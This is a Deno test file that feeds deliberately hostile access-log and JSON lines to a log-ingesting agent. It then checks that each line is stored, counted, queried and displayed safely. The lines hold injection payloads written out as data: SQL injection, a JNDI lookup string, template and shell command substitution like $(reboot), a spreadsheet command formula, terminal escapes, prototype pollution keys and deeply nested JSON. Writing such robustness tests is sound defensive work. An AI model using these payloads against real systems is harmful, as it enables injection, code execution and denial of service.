/** Log lines made to harm whoever stores, asks or shows them: they are data, and nothing else. */
import assert from "node:assert/strict";
import { ourProgram, runProgram } from "../harness/program.ts";
import { TempFolder } from "../harness/temp_folder.ts";

const DEEP = 200_000;
const LONG_BYTES = 100e6;

function combined(request: string, agent: string): string {
  return `192.0.2.1 - - [22/Nov/2026:18:00:00 +0000] "GET ${request} HTTP/1.1" 200 5 "-" "${agent}"\n`;
}

/** Access log lines that carry something. */
const CARRIERS = [
  combined("/'; DROP VIEW logs; --", "'); COPY logs TO '/tmp/x'; --"),
  combined("/x%27%20UNION%20SELECT%201", "${jndi:ldap://example.com/a} {{7*7}} $(reboot) `id`"),
  combined("/a", "=cmd|' /C calc'!A0"),
  combined("/\\x1b[2J\\x1b]0;owned\\x07", "\\u0000 %00 \\x00"),
  combined(`/${"[".repeat(30_000)}`, "x".repeat(60_000)),
];

const encoder = new TextEncoder();

/** The same as bytes: control characters, broken UTF-8, zero bytes. */
const BYTES = [
  encoder.encode(combined("/\x1b[31m\x1b]0;title\x07", "\x1b[2J\x9b\r")),
  Uint8Array.from([
    ...encoder.encode('192.0.2.1 - - [22/Nov/2026:18:00:01 +0000] "GET /'),
    0xff,
    0xfe,
    0xc3,
    0x28,
    ...encoder.encode(' HTTP/1.1" 200 5 "-" "x"\n'),
  ]),
  Uint8Array.from([0, 0, 0, 10]),
];

/** JSON lines against parsers, columns and types. */
const JSON_LINES = [
  `{"time":"2026-11-22T18:00:00Z","deep":${"[".repeat(DEEP)}${"]".repeat(DEEP)}}`,
  `{"time":"2026-11-22T18:00:00Z","deep":${'{"a":'.repeat(DEEP)}1${"}".repeat(DEEP)}}`,
  `{"time":"2026-11-22T18:00:00Z","__proto__":{"polluted":true},"constructor":{"prototype":1}}`,
  `{"time":"2026-11-22T18:00:00Z","a\\"; DROP VIEW app; --":1,"select":2,"line":3,"host":"evil"}`,
  `{"time":"2026-11-22T18:00:00Z","n":1e999,"m":-0,"i":123456789012345678901234567890}`,
  `{"time":"2026-11-22T18:00:00Z","n":"\\ud800","n":"\\u0000","n":[1,{"n":null}]}`,
  `{"time":"9999-99-99T99:99:99Z","n":1}`,
  `{"time":"2026-11-22T18:00:00Z",${
    Array.from({ length: 3_000 }, (_, i) => `"k${i}":${i}`).join(",")
  }}`,
  "[".repeat(DEEP),
  '{"unclosed":"',
];

async function write(path: string, parts: readonly (string | Uint8Array)[]) {
  using file = await Deno.open(path, { write: true, create: true });
  for (const part of parts) {
    const bytes = typeof part === "string" ? encoder.encode(part) : part;
    for (let at = 0; at < bytes.length;) at += file.writeSync(bytes.subarray(at));
  }
}

Deno.test("hostile lines are stored, asked and shown like any other", async () => {
  await using folder = await TempFolder.make();
  const config = await folder.write(
    "agent.yaml",
    `host: web-1
data_dir: ./data
streams:
  - { name: logs, format: combined, files: [ ./access.log ] }
  - { name: app, format: json, files: [ ./app.log ] }
`,
  );
  const long = new Uint8Array(LONG_BYTES).fill("x".charCodeAt(0));
  const good = combined("/good", "curl");
  await write(folder.join("access.log"), [...CARRIERS, ...BYTES, long, "\n", good]);
  const goodEvent = '{"time":"2026-11-22T18:00:00Z","level":"info"}\n';
  await write(folder.join("app.log"), [...JSON_LINES.map((line) => `${line}\n`), goodEvent]);
  const agent = async (...args: string[]) => {
    const program = ourProgram("agent/main.ts", ...args);
    const ended = await runProgram({ args: program, env: { NO_COLOR: "1" } });
    return { ...ended, said: `${ended.stderr}\n${ended.stdout.slice(0, 2_000)}` };
  };
  for (const [stream, file] of [["logs", "access.log"], ["app", "app.log"]] as const) {
    const args = ["--stream", stream, "-c", config];
    const { code, said } = await agent("import", folder.join(file), ...args);
    assert.equal(code, 0, said);
  }
  const ask = async (sql: string, output = "json") => {
    const { code, stdout, said } = await agent(
      "query",
      sql,
      "-c",
      config,
      "-o",
      output,
      "--since",
      "all",
    );
    assert.equal(code, 0, `${sql}: ${said}`);
    return stdout;
  };
  const number = async (sql: string) =>
    Number(Object.values(JSON.parse(await ask(sql)).rows[0])[0]);
  const all = CARRIERS.length + BYTES.length + 2;
  assert.equal(
    await number(
      "SELECT (SELECT count(*) FROM logs) + (SELECT count(*) FROM rejects WHERE stream = 'logs') AS n",
    ),
    all,
  );
  assert.equal(
    await number(
      "SELECT (SELECT count(*) FROM app) + (SELECT count(*) FROM rejects WHERE stream = 'app') AS n",
    ),
    JSON_LINES.length + 1,
  );
  assert.equal(await number("SELECT count(*) FROM logs WHERE request = '/good'"), 1);
  assert.equal(await number("SELECT count(*) FROM app WHERE TRY(line->>'$.level') = 'info'"), 1);
  assert.equal(
    await number("SELECT count(*) FROM logs WHERE http_user_agent LIKE '%COPY logs TO%'"),
    1,
  );
  for (const table of ["logs", "app", "rejects"]) {
    const shown = await ask(`SELECT * FROM ${table}`, "table");
    // deno-lint-ignore no-control-regex -- these are what is looked for
    assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(shown), `${table} shows control characters`);
    await ask(`SELECT * FROM ${table}`, "csv");
  }
  await ask(
    "SELECT json_valid(line), TRY(line->>'$.deep[0][0][0]'), TRY(json_type(line)) FROM app",
  );
  const { code, said } = await agent("account", "-c", config);
  assert.equal(code, 0, said);
});
